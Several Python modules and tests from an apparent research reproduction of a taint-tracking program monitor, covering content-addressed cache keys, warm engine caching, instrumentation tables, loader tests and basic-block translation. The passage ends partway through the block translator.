``hash()`` is salted per process and dict iteration order is an
implementation detail, so neither may appear anywhere near a key.

:func:`canon_bytes` therefore defines one canonical encoding: every
value is emitted as a type tag plus a length-prefixed payload, dict
items and set members are sorted by their own canonical encodings, and
floats travel as their IEEE-754 bit pattern.  Frozen config dataclasses
(:class:`~repro.core.options.RunOptions` and everything it nests —
policy, harrier config, fault profiles) encode as their qualified class
name plus their sorted field items, so *every* field of every nested
config participates in the key: flip one and the key moves.

The digests built on top:

* :func:`image_digest` — the assembled-image identity (name, every
  instruction including operand shapes, data cells, symbols,
  relocations, basic-block leaders, externs);
* :func:`options_fingerprint` — the frozen :class:`RunOptions`, minus
  the ``cache`` enable flag itself (whether a result may be cached is
  not part of what the result *is*);
* :func:`environment_digest` — argv/env/stdin plus the declarative
  seeded-files/peers environment (:class:`CacheEnv`);
* :func:`run_key` / :func:`workload_key` / :func:`submission_key` — the
  full content-addressed keys the Session, fleet workers, and serve
  daemon use.

Workload setup callbacks are closures and cannot be content-hashed;
:func:`workload_key` pins them by the workload's registry identity
(name, description, source, environment, and the setup function's
``module.qualname``) — the same contract that makes
:class:`repro.fleet.refs.WorkloadRef` resolution deterministic.
"""

from __future__ import annotations

import dataclasses
import enum
import hashlib
import struct
from collections import OrderedDict
from typing import Dict, Iterable, Mapping, Optional, Sequence, Tuple, Union

from repro.core.options import RunOptions
from repro.isa.image import Image

#: Bump when the canonical encoding or any key recipe changes: old
#: on-disk entries then simply miss instead of decoding wrongly.
KEY_SCHEMA = "repro-verdict-cache/1"


class DigestError(TypeError):
    """A value with no canonical byte encoding (e.g. a closure)."""


#: ``id(image.text)`` -> ``(text, name, guard, digest)`` — see
#: :func:`image_digest`.
_IMAGE_DIGEST_MEMO: "OrderedDict[int, Tuple[tuple, str, tuple, str]]" = (
    OrderedDict()
)
_IMAGE_MEMO_CAPACITY = 256


def _mutable_guard(image: Image) -> tuple:
    """Cheap fingerprint of an Image's *mutable* containers.

    ``Image`` is frozen, but ``data`` and ``symbols`` are plain dicts a
    caller could mutate between runs; a digest memoized before such a
    mutation must not answer after it.  This guard is O(cells) integer
    arithmetic — far cheaper than re-running the canonical
    serialization — and moves on any added/removed/re-valued cell or
    symbol.  (A pair of exactly compensating mutations can slip past;
    the memo is a latency optimization for engine-produced images,
    which are fresh copies per run — see :func:`image_digest`.)
    """
    data = image.data
    symbols = image.symbols
    return (
        len(data), sum(data.keys()), sum(data.values()),
        len(symbols), sum(symbols.values()),
    )


def _chunk(tag: bytes, payload: bytes, out: list) -> None:
    out.append(tag)
    out.append(struct.pack(">Q", len(payload)))
    out.append(payload)


def _canon(value: object, out: list) -> None:
    if value is None:
        _chunk(b"N", b"", out)
    elif value is True:
        _chunk(b"T", b"", out)
    elif value is False:
        _chunk(b"F", b"", out)
    elif isinstance(value, int):
        _chunk(b"i", str(value).encode("ascii"), out)
    elif isinstance(value, float):
        _chunk(b"f", struct.pack(">d", value), out)
    elif isinstance(value, str):
        _chunk(b"s", value.encode("utf-8"), out)
    elif isinstance(value, (bytes, bytearray)):
        _chunk(b"b", bytes(value), out)
    elif isinstance(value, enum.Enum):
        cls = type(value)
        _chunk(b"E", f"{cls.__module__}.{cls.__qualname__}".encode(), out)
        _canon(value.value, out)
    elif isinstance(value, (tuple, list)):
        _chunk(b"t", struct.pack(">Q", len(value)), out)
        for item in value:
            _canon(item, out)
    elif isinstance(value, (set, frozenset)):
        members = sorted(canon_bytes(item) for item in value)
        _chunk(b"S", struct.pack(">Q", len(members)), out)
        out.extend(members)
    elif isinstance(value, Mapping):
        items = sorted(
            (canon_bytes(k), canon_bytes(v)) for k, v in value.items()
        )
        _chunk(b"d", struct.pack(">Q", len(items)), out)
        for key, val in items:
            out.append(key)
            out.append(val)
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        cls = type(value)
        _chunk(b"D", f"{cls.__module__}.{cls.__qualname__}".encode(), out)
        fields = sorted(f.name for f in dataclasses.fields(value))
        _chunk(b"t", struct.pack(">Q", len(fields)), out)
        for name in fields:
            _canon(name, out)
            _canon(getattr(value, name), out)
    else:
        raise DigestError(
            f"no canonical encoding for {type(value).__name__}: {value!r}"
        )


def canon_bytes(value: object) -> bytes:
    """The canonical, process-independent byte encoding of ``value``."""
    out: list = []
    _canon(value, out)
    return b"".join(out)


def content_digest(*parts: object) -> str:
    """SHA-256 hex digest over the canonical encoding of ``parts``."""
    hasher = hashlib.sha256()
    hasher.update(KEY_SCHEMA.encode("ascii"))
    hasher.update(canon_bytes(tuple(parts)))
    return hasher.hexdigest()


# ---------------------------------------------------------------------------
# the key ingredients


def image_digest(image: Image) -> str:
    """Content digest of one assembled image.

    Covers everything the loader consumes: the full instruction tuple
    (opcode, operand shapes and values, source lines), data cells and
    extent, symbols, both relocation tables, basic-block leaders, and
    externs.  A one-instruction (or one-byte-of-data) change moves it.

    A warm-hit lookup must not re-serialize thousands of instructions
    per request, so the digest is memoized two ways: on the (frozen)
    instance itself, and — because ``EngineCache.image`` hands out a
    fresh ``replace()`` of its interned template per call — by the
    identity of the shared text tuple, which *is* stable across a warm
    session.  The memo entry keeps a strong reference to the tuple it
    keyed on and checks ``is`` before answering, so a recycled ``id``
    can never alias.  (The memo digests the image as assembled; loader
    state is applied to per-machine copies after keys are computed.)

    Both memo levels are validated against :func:`_mutable_guard`
    before answering: ``data``/``symbols`` are mutable dicts, and a
    caller-held Image mutated between runs must re-digest rather than
    reuse the stale key (and with it, someone else's cached report).
    """
    guard = _mutable_guard(image)
    cached = image.__dict__.get("_verdict_digest")
    if cached is not None and cached[0] == guard:
        return cached[1]
    ident = id(image.text)
    entry = _IMAGE_DIGEST_MEMO.get(ident)
    if entry is not None and entry[0] is image.text and (
        entry[1] == image.name
    ) and entry[2] == guard:
        return entry[3]
    digest = content_digest(
        "image",
        image.name,
        image.text,
        image.data,
        image.data_size,
        image.symbols,
        image.text_relocations,
        image.data_relocations,
        image.bb_leaders,
        image.externs,
    )
    object.__setattr__(image, "_verdict_digest", (guard, digest))
    _IMAGE_DIGEST_MEMO[ident] = (image.text, image.name, guard, digest)
    while len(_IMAGE_DIGEST_MEMO) > _IMAGE_MEMO_CAPACITY:
        _IMAGE_DIGEST_MEMO.popitem(last=False)
    return digest


def options_fingerprint(options: RunOptions) -> str:
    """Content digest of a frozen :class:`RunOptions`.

    Every field participates — policy, harrier config, engine toggles,
    fault profile + seed, budgets — *except* ``cache`` itself: enabling
    or disabling the cache must not change what a run computes, so it
    cannot change the key either.
    """
    cached = options.__dict__.get("_verdict_fingerprint")
    if cached is not None:
        return cached
    items = {
        f.name: getattr(options, f.name)
        for f in dataclasses.fields(options)
        if f.name != "cache"
    }
    digest = content_digest("options", items)
    # RunOptions is frozen too; memoized for the same warm-hit reason.
    object.__setattr__(options, "_verdict_fingerprint", digest)
    return digest


@dataclasses.dataclass(frozen=True)
class CacheEnv:
    """A declarative machine environment the cache can hash.

    ``Session.run`` setup callbacks are opaque closures; a run made with
    one is uncacheable *unless* the caller also describes the
    environment the closure builds — seeded files and network peers, the
    exact data the CLI flags and serve submissions carry.  The CLI and
    the serve worker both build their setup from these mappings, so for
    them the description is authoritative by construction.
    """

    #: ``(path, content)`` pairs seeded into the simulated fs.
    files: Tuple[Tuple[str, str], ...] = ()
    #: ``("host:port", opening_payload)`` pairs; ``""`` payload means a
    #: plain data-sink peer (the ``--peer`` / ``--serve`` CLI split).
    peers: Tuple[Tuple[str, str], ...] = ()

    @classmethod
    def from_mappings(
        cls,
        files: Optional[Mapping[str, str]] = None,
        peers: Optional[Mapping[str, str]] = None,
    ) -> "CacheEnv":
        return cls(
            files=tuple(sorted((files or {}).items())),
            peers=tuple(sorted((peers or {}).items())),
        )


def environment_digest(
    argv: Optional[Sequence[str]],
    env: Optional[Mapping[str, str]],
    stdin: Optional[Union[str, bytes]],
    cache_env: Optional[CacheEnv],
) -> str:
    """Digest of everything the guest observes besides its own image."""
    return content_digest(
        "environment",
        tuple(argv) if argv is not None else None,
        dict(env) if env is not None else None,
        stdin,
        cache_env if cache_env is not None else CacheEnv(),
    )


# ---------------------------------------------------------------------------
# full keys


def run_key(
    image: Image,
    options: RunOptions,
    argv: Optional[Sequence[str]] = None,
    env: Optional[Mapping[str, str]] = None,
    stdin: Optional[Union[str, bytes]] = None,
    cache_env: Optional[CacheEnv] = None,
) -> str:
    """The verdict-cache key for one ``Session.run`` invocation."""
    return content_digest(
        "run",
        image_digest(image),
        options_fingerprint(options),
        environment_digest(argv, env, stdin, cache_env),
    )


def _setup_identity(workload) -> Optional[Tuple[str, str]]:
    if workload.setup is None:
        return None
    setup = workload.setup
    return (
        getattr(setup, "__module__", "") or "",
        getattr(setup, "__qualname__", repr(setup)),
    )


def workload_key(workload, options: RunOptions, engine=None) -> str:
    """The verdict-cache key for one registry :class:`Workload` run.

    The setup closure is pinned by registry identity (see module
    docstring); everything else is content-hashed, including the
    assembled image — so the same source registered under a different
    path/name, or with one patched instruction, keys differently.
    """
    return content_digest(
        "workload",
        workload.name,
        workload.description,
        image_digest(workload.image(engine=engine)),
        tuple(workload.extra_libraries),
        tuple(workload.argv) if workload.argv is not None else None,
        dict(workload.env),
        workload.stdin,
        workload.max_ticks,
        workload.harrier_config,
        _setup_identity(workload),
        options_fingerprint(options),
    )


def submission_key(submission, engine=None) -> str:
    """The verdict-cache key for one serve :class:`Submission`.

    Registry submissions resolve their workload daemon-side (the same
    deterministic resolution a worker performs); inline submissions
    assemble through ``engine`` (or cold) and hash their declarative
    files/peers environment.
    """
    if submission.workload is not None:
        from repro.fleet.refs import WorkloadRef

        table, name = submission.workload
        workload = WorkloadRef.from_registry(table, name).resolve()
        return content_digest(
            "submission-workload",
            workload_key(workload, submission.options, engine=engine),
        )
    if engine is not None:
        image = engine.image(submission.path, submission.source)
    else:
        from repro.isa.assembler import assemble

        image = assemble(submission.path, submission.source)
    return content_digest(
        "submission-source",
        run_key(
            image,
            submission.options,
            argv=submission.argv,
            stdin=submission.stdin,
            cache_env=CacheEnv.from_mappings(
                submission.files, submission.peers
            ),
        ),
    )


def iter_digest_parts(values: Iterable[object]) -> Dict[str, str]:
    """Debug aid: per-part digests for key-mismatch forensics."""
    return {
        f"part_{i}": content_digest(value)
        for i, value in enumerate(values)
    }
