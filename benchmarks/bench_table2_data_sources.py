"""Table 2 — data source / resource-ID-origin combinations, derived from
the taint model (section 5.1)."""

from benchmarks.harness import once, render_table, write_result
from repro.analysis.characterization import table2_rows


def bench_table2_data_sources(benchmark):
    rows = once(benchmark, table2_rows)
    text = render_table(
        "Table 2: Data source combinations",
        ("Data Source", "Resource ID", "Resource ID (Origin) Data Source"),
        rows,
    )
    write_result("table2_data_sources.txt", text)
    print("\n" + text)
    assert len(rows) == 11
