"""EngineCache: warm execution-engine state reused across runs.

One :class:`~repro.core.hth.HTH` instance models one machine and lives
for one run, so by construction every run used to retranslate every
basic block and re-intern every tag set from scratch.  Sweeps (the §9
table, the 62-workload differential suite, chaos seed trials, fleet
shards) run the *same images* over and over — an ideal reuse target,
because the block translation cache and the tag-set interner are pure
performance substrates whose contents never leak into observable run
output (proven by ``tests/harrier/test_blockcache_differential.py``).

An :class:`EngineCache` owns that reusable state:

* a :class:`~repro.harrier.blockcache.BlockCacheStore` keyed by exact
  code-layout identity, so a second run of the same image starts with
  every block already translated;
* a shared :class:`~repro.taint.tags.TagSetInterner`, so hash-consed
  tag sets and the union memo stay warm across the sweep;
* an assemble memo handing out images that share their (immutable)
  text tuple while copying the mutable ``data``/``symbols`` containers
  — the same defensive-copy pattern as
  :func:`repro.core.hth.stub_binary`, and the thing that makes the
  layout keys of the block-cache store stable across runs.

Sharing an EngineCache is what "each fleet worker owns a warm
BlockCache/TagSetInterner reused across its shard" means concretely:
:class:`repro.api.Session` creates one and threads it into every HTH it
builds.  An EngineCache must only ever be used from one process/thread
at a time (fleet workers each build their own).
"""

from __future__ import annotations

from collections import OrderedDict
from dataclasses import replace
from typing import Dict, Optional, Tuple

from repro.harrier.blockcache import BlockCacheStore
from repro.isa.assembler import assemble
from repro.isa.image import Image
from repro.taint.tags import TagSetInterner


class EngineCache:
    """Warm, observably-transparent engine state shared across runs."""

    def __init__(self, max_images: Optional[int] = None) -> None:
        #: Layout-keyed store of translated-block caches (see
        #: :class:`BlockCacheStore` for the key discipline).
        self.block_caches = BlockCacheStore()
        #: Shared hash-consing table + union memo for taint tag sets.
        self.interner = TagSetInterner()
        #: (path, source) -> assembled template image.  ``max_images``
        #: bounds the memo LRU-style; front-ends that assemble
        #: *untrusted, ever-varying* sources without executing them (the
        #: serve daemon's key/triage path) must set it, or a client can
        #: grow daemon memory without bound by varying one byte per
        #: submission.  Execution sessions keep the default ``None``:
        #: eviction would re-assemble and hand out a new text tuple,
        #: orphaning that layout's entry in ``block_caches``.
        self.max_images = max_images
        self._images: "OrderedDict[Tuple[str, str], Image]" = OrderedDict()

    def image(self, path: str, source: str) -> Image:
        """Assemble ``source`` as ``path``, memoized per session.

        Every call returns an image with its own mutable containers so
        one machine's loader state can never leak into another; the
        text tuple (frozen instructions) is shared, which both avoids
        re-assembly and keeps ``id(image.text)`` — the block-cache
        store's layout key — stable across the session's runs.
        """
        key = (path, source)
        template = self._images.get(key)
        if template is None:
            template = self._images[key] = assemble(path, source)
        if self.max_images is not None:
            self._images.move_to_end(key)
            while len(self._images) > self.max_images:
                self._images.popitem(last=False)
        return replace(
            template,
            data=dict(template.data),
            symbols=dict(template.symbols),
        )

    def stats(self) -> Dict[str, object]:
        """Aggregate warm-cache statistics (sweep diagnostics)."""
        stats = self.block_caches.stats()
        stats["images"] = len(self._images)
        return stats
