"""Instrumentation views (paper Table 3 and Figure 5).

* :data:`GRANULARITY_TABLE` — which instrumentation granularity gathers
  which information for which policy rule (Table 3), kept as structured
  data so the benchmark can regenerate the table.
* :func:`instrumentation_listing` — the Figure 5 view: the original
  instruction stream annotated with the analysis calls Harrier inserts
  (Track_DataFlow before data-moving instructions,
  Collect_BB_Frequency at basic-block leaders, Monitor_SystemCalls
  before ``int 0x80``).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Tuple

from repro.isa.image import Image
from repro.isa.instructions import ALU_OPCODES, Imm, Opcode


@dataclass(frozen=True)
class GranularityRow:
    level: str                 # Architectural / OS (API) / Library (API)
    policy_rule: str
    granularity: str
    information: str


#: Table 3, mapped onto this implementation's modules.
GRANULARITY_TABLE: Tuple[GranularityRow, ...] = (
    GranularityRow("Architectural events", "Information Flow", "Instruction",
                   "Data Flow (reg/mem, mem/mem, reg/reg)"),
    GranularityRow("Architectural events", "Information Flow", "Instruction",
                   "Hardware Information (CPUID)"),
    GranularityRow("Architectural events", "Code Frequency", "Basic Block",
                   "BB frequency"),
    GranularityRow("OS (API) events", "Execution Flow", "Instruction",
                   "System Calls (execve)"),
    GranularityRow("OS (API) events", "Resource Abuse", "Instruction",
                   "System Calls (clone)"),
    GranularityRow("OS (API) events", "Information Flow", "Instruction",
                   "System Calls (IO read/write)"),
    GranularityRow("OS (API) events", "Information Flow", "Section",
                   "Binary load"),
    GranularityRow("OS (API) events", "Information Flow", "Image",
                   "Binary load"),
    GranularityRow("OS (API) events", "Information Flow", "Instruction",
                   "Initial stack location"),
    GranularityRow("Library (API) events", "Information Flow", "Routine",
                   "'Short Circuit' Data Flow (getHostByName)"),
)

#: Opcodes whose execution moves or computes data (get Track_DataFlow).
_DATA_OPCODES = frozenset(
    {Opcode.MOV, Opcode.LOAD, Opcode.STORE, Opcode.PUSH, Opcode.POP}
) | ALU_OPCODES


def instrumentation_listing(image: Image) -> List[Tuple[str, str]]:
    """(original instruction, inserted analysis calls) pairs, Figure 5
    style.  Analysis calls are rendered before the instruction they
    precede, joined with newlines in the right-hand column."""
    rows: List[Tuple[str, str]] = []
    for offset, instr in enumerate(image.text):
        inserted: List[str] = []
        if offset in image.bb_leaders:
            inserted.append("Call Collect_BB_Frequency")
        if instr.opcode in _DATA_OPCODES:
            inserted.append("Call Track_DataFlow")
        if instr.opcode is Opcode.INT and isinstance(instr.a, Imm) \
                and instr.a.value == 0x80:
            inserted.append("Call Monitor_SystemCalls")
        rows.append((str(instr), "\n".join(inserted)))
    return rows


def render_listing(image: Image) -> str:
    """Two-column text rendering of :func:`instrumentation_listing`."""
    lines: List[str] = []
    for original, inserted in instrumentation_listing(image):
        for call in inserted.splitlines():
            lines.append(f"{'':24s}{call}")
        lines.append(f"{original:24s}")
    return "\n".join(lines)
