"""Loader tests: placement, relocation, dynamic linking, initial stack."""

import pytest

from repro.isa import APP_BASE, FlatMemory, LIBRARY_BASE, assemble
from repro.kernel.loader import ImageMap, Loader, LoaderError


LIB_SOURCE = """
helper:
    mov eax, 7
    ret
.data
lib_secret: .asciz "in-lib"
"""

APP_SOURCE = """
main:
    call helper
    mov ebx, msg
    ret
.data
msg: .asciz "hi"
ptr: .word helper
"""


@pytest.fixture
def loaded():
    lib = assemble("/lib/test.so", LIB_SOURCE)
    app = assemble("/bin/app", APP_SOURCE)
    memory = FlatMemory()
    result = Loader([lib]).load(memory, app, argv=["/bin/app", "arg1"],
                                env={"KEY": "VAL"})
    return memory, result, app, lib


class TestPlacement:
    def test_app_at_app_base(self, loaded):
        memory, result, app, lib = loaded
        assert result.image_map.app.base == APP_BASE

    def test_library_at_library_base(self, loaded):
        memory, result, app, lib = loaded
        li = [x for x in result.image_map if x.name == "/lib/test.so"][0]
        assert li.base == LIBRARY_BASE
        assert not li.is_app

    def test_entry_is_shim(self, loaded):
        memory, result, app, lib = loaded
        shim = result.image_map.find_code(result.entry)
        assert shim.name == "[startup]"

    def test_shim_calls_main(self, loaded):
        memory, result, app, lib = loaded
        call = memory.fetch(result.entry)
        assert call.a.value == APP_BASE  # main is app offset 0


class TestRelocation:
    def test_local_data_symbol(self, loaded):
        memory, result, app, lib = loaded
        mov = memory.fetch(APP_BASE + 1)  # mov ebx, msg
        assert mov.b.value == APP_BASE + app.symbols["msg"]
        # the string content was copied
        assert memory.read_cstring(mov.b.value) == "hi"

    def test_extern_call_resolved_into_library(self, loaded):
        memory, result, app, lib = loaded
        call = memory.fetch(APP_BASE)  # call helper
        assert call.a.value == LIBRARY_BASE + lib.symbols["helper"]

    def test_data_relocation(self, loaded):
        memory, result, app, lib = loaded
        ptr_addr = APP_BASE + app.symbols["ptr"]
        assert memory.read(ptr_addr) == LIBRARY_BASE + lib.symbols["helper"]

    def test_unresolved_symbol_raises(self):
        app = assemble("/bin/app", "main:\n  call ghost_symbol\n")
        with pytest.raises(LoaderError):
            Loader([]).load(FlatMemory(), app, argv=[], env={})

    def test_missing_main_raises(self):
        app = assemble("/bin/app", "start:\n  nop\n")
        with pytest.raises(LoaderError):
            Loader([]).load(FlatMemory(), app, argv=[], env={})


class TestInitialStack:
    def test_argc_argv_envp_layout(self, loaded):
        memory, result, app, lib = loaded
        sp = result.initial_sp
        argc = memory.read(sp)
        argv_array = memory.read(sp + 1)
        env_array = memory.read(sp + 2)
        assert argc == 2
        assert memory.read_cstring(memory.read(argv_array)) == "/bin/app"
        assert memory.read_cstring(memory.read(argv_array + 1)) == "arg1"
        assert memory.read(argv_array + 2) == 0  # NUL terminator
        assert memory.read_cstring(memory.read(env_array)) == "KEY=VAL"
        assert memory.read(env_array + 1) == 0

    def test_stack_range_covers_strings(self, loaded):
        memory, result, app, lib = loaded
        start, end = result.initial_stack_range
        assert start == result.initial_sp
        from repro.isa import STACK_TOP

        assert end == STACK_TOP


class TestImageMap:
    def test_find_and_symbols(self, loaded):
        memory, result, app, lib = loaded
        imap = result.image_map
        assert imap.find(APP_BASE).name == "/bin/app"
        assert imap.find(0xDEAD_BEEF) is None
        assert imap.symbol_addr("helper") == LIBRARY_BASE
        assert imap.symbol_addr("nope") is None

    def test_addr_to_symbol(self, loaded):
        memory, result, app, lib = loaded
        imap = result.image_map
        assert imap.addr_to_symbol(LIBRARY_BASE) == "helper"

    def test_app_property_requires_app(self):
        with pytest.raises(LoaderError):
            ImageMap([]).app
