"""Basic-block translation: decode once, execute many times.

The paper's Harrier rides on PIN, and PIN's whole performance story is a
code cache: a basic block is decoded and instrumented *once*, then the
translated block is re-executed cheaply on every later visit (paper
sections 7 and 9).  This module reproduces that idea for the mini-ISA.

``translate_block`` walks the instruction stream from a block leader and
compiles every instruction into a closure with its operand accessors
resolved ahead of time — no ``isinstance`` checks and no if/elif opcode
dispatch remain on the hot path.  Alongside each closure it precomputes a
*static taint-transfer template*: the dst/src location shapes of the
instruction's :class:`TaintTransfer` records are known at decode time for
everything except dynamic ``Mem`` addresses, which get a hole
(:data:`MEM_HOLE`) filled from the runtime address trace.

A :class:`BlockPlan` executes with explicit exit conditions: it returns a
:class:`BlockRecord` whose ``kind`` says *why* the block stopped —
fall-through/branch (:data:`EXIT_CONTINUE`), syscall
(:data:`EXIT_SYSCALL`), HLT (:data:`EXIT_HALT`), CPU fault
(:data:`EXIT_FAULT`) or quantum/deadline expiry (:data:`EXIT_BUDGET`).
The record is the monitor's batched unit of observation: one record per
block entry instead of one :class:`StepResult` per instruction.
``BlockPlan.iter_steps`` reconstructs the per-instruction StepResults for
consumers that still want them (the default hook compatibility path),
bit-identical to what the interpreter would have produced.
"""

from __future__ import annotations

from typing import Callable, Dict, Iterator, List, Optional, Tuple

from repro.isa.cpu import (
    CPUID_VALUES,
    CpuFault,
    LOC_HARDWARE,
    LOC_IMM,
    LOC_ZERO,
    StepKind,
    StepResult,
    TaintTransfer,
)
from repro.isa.instructions import (
    CONTROL_TRANSFER_OPCODES,
    Imm,
    Instruction,
    Mem,
    Opcode,
    Reg,
)
from repro.isa.memory import FlatMemory, MemoryFault
from repro.isa.registers import CPUID_REGISTERS

#: Why a block's execution stopped.
EXIT_CONTINUE = 0   # fall-through or control transfer; keep scheduling
EXIT_SYSCALL = 1    # int 0x80 retired; the kernel must service it
EXIT_HALT = 2       # HLT retired (counted, then treated as a fault)
EXIT_FAULT = 3      # a CpuFault fired; the faulting instruction is NOT
                    # included in ``executed`` (interpreter semantics)
EXIT_BUDGET = 4     # quantum/deadline expired mid-block; resume at next_pc

EXIT_NAMES = {
    EXIT_CONTINUE: "continue",
    EXIT_SYSCALL: "syscall",
    EXIT_HALT: "halt",
    EXIT_FAULT: "fault",
    EXIT_BUDGET: "budget",
}

#: Placeholder in a taint template for a run-time memory address.  At most
#: one dynamic address exists per instruction in this ISA (LOAD/STORE
#: effective address, or the stack slot of PUSH/POP/CALL), so the hole is
#: filled positionally from the record's address trace.
MEM_HOLE: Tuple[str] = ("mem?",)

#: Longest block the translator will form (defensive bound; real blocks
#: end at control transfers or leaders long before this).
MAX_BLOCK_LEN = 64

#: A compiled straight-line op: ``op(cpu, regs, cells, holes)``.
BodyOp = Callable[[object, dict, dict, list], None]

#: Taint template: ``None`` (no transfers) or ``(has_hole, transfers)``
#: where each transfer is ``(dst_spec, src_specs)`` built from the same
#: location tuples the interpreter emits, with MEM_HOLE for the dynamic
#: address.
TaintTemplate = Optional[Tuple[bool, Tuple[Tuple[tuple, Tuple[tuple, ...]], ...]]]

#: Summary-expression tokens (see :class:`TaintSummary`).  ``("reg", r)``
#: is the tag set register ``r`` holds at block *entry*; ``("mem", k)``
#: the tags of the cell the k-th dynamic address (hole) points at;
#: TOK_IMM the containing image's BINARY tag; TOK_HW the HARDWARE tag.
TOK_IMM: Tuple[str] = ("imm",)
TOK_HW: Tuple[str] = ("hw",)


class TaintSummary:
    """Block-level taint liveness: what a block reads, loads, and writes.

    Computed once at translation time by abstract interpretation of the
    block's taint templates.  Every destination the block writes gets a
    *support expression* — the set of entry-state tokens whose union is
    the destination's final tag set, with intra-block register chains
    already folded away.  Because tag-set union is associative,
    commutative, and idempotent, evaluating the supports against the
    shadow state at block entry reproduces the per-transfer replay
    exactly, in O(#outputs) instead of O(#transfers) — the monitor's
    fast path (see ``InstructionDataFlow.apply_summary``).

    Validity: the expressions assume every ``("mem", k)`` read sees the
    cell's *entry* tags, so they only hold when no load aliases an
    earlier store of the same block.  ``alias_checks`` lists the
    (read hole, earlier write holes) pairs the fast path must compare
    at run time (almost always empty).
    """

    __slots__ = (
        "live_in",
        "read_holes",
        "reg_writes",
        "mem_writes",
        "alias_checks",
        "has_loads",
        "touch_holes",
        "is_noop",
        "zero_taint_safe",
    )

    def __init__(
        self,
        live_in: Tuple[str, ...],
        read_holes: Tuple[int, ...],
        reg_writes: Tuple[Tuple[str, Tuple[tuple, ...]], ...],
        mem_writes: Tuple[Tuple[int, Tuple[tuple, ...]], ...],
        alias_checks: Tuple[Tuple[int, Tuple[int, ...]], ...],
    ) -> None:
        #: Registers whose entry tags feed at least one output.
        self.live_in = live_in
        #: Hole indices the block *loads* through (mem? sources).
        self.read_holes = read_holes
        #: reg name -> support tokens, final value per written register.
        self.reg_writes = reg_writes
        #: (hole index, support tokens) per memory store, program order.
        self.mem_writes = mem_writes
        self.alias_checks = alias_checks
        self.has_loads = bool(read_holes)
        #: Every hole index the expressions touch (loads + stores), for
        #: the page-granularity "can this block see/leave taint" gate.
        self.touch_holes = tuple(
            sorted(set(read_holes) | {idx for idx, _ in mem_writes})
        )
        #: True when the block moves no tags at all (cmp/jmp-only
        #: blocks): nothing to apply, ever.
        self.is_noop = not reg_writes and not mem_writes
        #: True when no output can carry taint unless an *input* does:
        #: no immediate or hardware source reaches any destination, so a
        #: clean entry state stays clean and the block can be skipped
        #: outright (modulo clearing stale write-set tags).
        self.zero_taint_safe = not any(
            TOK_IMM in support or TOK_HW in support
            for _, support in reg_writes
        ) and not any(
            TOK_IMM in support or TOK_HW in support
            for _, support in mem_writes
        )

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"TaintSummary(live_in={self.live_in}, "
            f"loads={len(self.read_holes)}, "
            f"regs={[r for r, _ in self.reg_writes]}, "
            f"stores={len(self.mem_writes)})"
        )


def summarize_taint(
    taint: Tuple[TaintTemplate, ...]
) -> TaintSummary:
    """Fold a block's taint templates into a :class:`TaintSummary`."""
    written: Dict[str, frozenset] = {}
    reads: List[str] = []
    seen_reads = set()
    read_holes: List[int] = []
    write_holes: List[int] = []
    mem_writes: List[Tuple[int, frozenset]] = []
    alias_checks: List[Tuple[int, Tuple[int, ...]]] = []
    cursor = 0
    for tmpl in taint:
        if tmpl is None:
            continue
        has_hole, transfers = tmpl
        idx = cursor
        if has_hole:
            cursor += 1
        for dst_spec, src_specs in transfers:
            tokens = set()
            for src in src_specs:
                kind = src[0]
                if kind == "reg":
                    reg = src[1]
                    chained = written.get(reg)
                    if chained is None:
                        if reg not in seen_reads:
                            seen_reads.add(reg)
                            reads.append(reg)
                        tokens.add(("reg", reg))
                    else:
                        tokens |= chained
                elif kind == "mem?":
                    if write_holes:
                        alias_checks.append((idx, tuple(write_holes)))
                    read_holes.append(idx)
                    tokens.add(("mem", idx))
                elif kind == "imm":
                    tokens.add(TOK_IMM)
                elif kind == "hardware":
                    tokens.add(TOK_HW)
                # 'zero' contributes nothing
            if dst_spec[0] == "reg":
                written[dst_spec[1]] = frozenset(tokens)
            else:
                mem_writes.append((idx, frozenset(tokens)))
                write_holes.append(idx)
    # Deterministic token order keeps evaluation reproducible.
    def _ordered(tokens: frozenset) -> Tuple[tuple, ...]:
        return tuple(sorted(tokens, key=lambda t: (t[0], str(t[1:]))))

    return TaintSummary(
        live_in=tuple(reads),
        read_holes=tuple(read_holes),
        reg_writes=tuple(
            (reg, _ordered(tokens)) for reg, tokens in written.items()
        ),
        mem_writes=tuple(
            (idx, _ordered(tokens)) for idx, tokens in mem_writes
        ),
        alias_checks=tuple(alias_checks),
    )


class BlockRecord:
    """One execution of a (prefix of a) translated block.

    ``executed`` counts retired instructions; a faulting instruction is
    not retired, matching the interpreter (the kernel never advanced the
    clock or fired the hook for it).  ``holes`` is the dynamic memory
    address trace, in retirement order, consumed positionally by the
    taint templates.  ``call_target``/``call_return_addr``/``ret_target``
    mirror :class:`StepResult` so the routine short-circuit module can
    consume a record directly (CALL/RET always terminate a block).
    """

    __slots__ = (
        "plan",
        "executed",
        "kind",
        "holes",
        "fault",
        "call_target",
        "call_return_addr",
        "ret_target",
        "next_pc",
    )

    def __init__(self, plan: "BlockPlan") -> None:
        self.plan = plan
        self.executed = 0
        self.kind = EXIT_CONTINUE
        self.holes: List[int] = []
        self.fault: Optional[CpuFault] = None
        self.call_target: Optional[int] = None
        self.call_return_addr: Optional[int] = None
        self.ret_target: Optional[int] = None
        self.next_pc = 0

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"BlockRecord(start={self.plan.start:#x}, "
            f"executed={self.executed}/{self.plan.length}, "
            f"kind={EXIT_NAMES[self.kind]})"
        )


class BlockPlan:
    """A translated basic block: closures + taint templates."""

    __slots__ = (
        "start",
        "pcs",
        "instructions",
        "body_ops",
        "term_op",
        "taint",
        "taint_summary",
        "taint_apply",
        "length",
    )

    def __init__(
        self,
        start: int,
        pcs: Tuple[int, ...],
        instructions: Tuple[Instruction, ...],
        body_ops: Tuple[BodyOp, ...],
        term_op,
        taint: Tuple[TaintTemplate, ...],
    ) -> None:
        self.start = start
        self.pcs = pcs
        self.instructions = instructions
        self.body_ops = body_ops
        self.term_op = term_op
        self.taint = taint
        #: Block-level liveness/fold summary for the zero-taint fast path.
        self.taint_summary = summarize_taint(taint)
        #: The compiled summary applier, installed lazily by the fast
        #: path (``InstructionDataFlow.apply_summary``) the first time
        #: this block's taint effects are applied — a closure shaped to
        #: this block's summary, with its own entry-values memo, just as
        #: ``body_ops`` are closures shaped to the instructions.
        self.taint_apply = None
        self.length = len(pcs)

    # -- execution --------------------------------------------------------
    def execute(self, cpu, limit: int) -> BlockRecord:
        """Run up to ``limit`` instructions of this block on ``cpu``.

